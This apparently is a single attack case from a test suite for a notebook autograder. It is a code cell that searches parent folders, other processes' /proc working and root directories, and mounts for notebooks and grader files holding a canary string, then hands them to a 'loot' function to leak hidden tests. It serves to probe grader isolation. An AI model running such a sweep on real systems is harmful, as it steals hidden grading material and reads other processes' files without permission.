# idea: Folders up the tree, open folders of other processes and mounts are searched for a notebook with hidden tests.
# aims at: leak
# %% before t01
#@ground
import glob
import time

# Only what holds a canary is told, wherever it lies. The library is imported from somewhere too.
library = os.path.join(os.path.dirname(mw.__file__), "..", "..")
roots = {os.path.realpath(place) for place in (".", "../..", "../../..", library)}
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    try:
        place = os.path.realpath(link)
        if (pathlib.Path(place) / "attack-ground").is_file():
            roots.add(place)
    except OSError:
        pass
end, found = time.monotonic() + 6, []
for root in sorted(roots - {"/"}):
    for folder, folders, files in os.walk(root):
        folders[:] = [x for x in folders if x not in (".git", ".venv", "node_modules")][:200]
        if time.monotonic() > end or len(found) > 20:
            break
        for name in files:
            if name.endswith((".ipynb", ".db", "nbgrader_config.py")):
                try:
                    text = pathlib.Path(folder, name).read_bytes()[:2_000_000]
                except OSError:
                    continue
                if b"mwcanary" in text:
                    found.append(text.decode(errors="replace")[:20_000])
loot("\n".join(found))
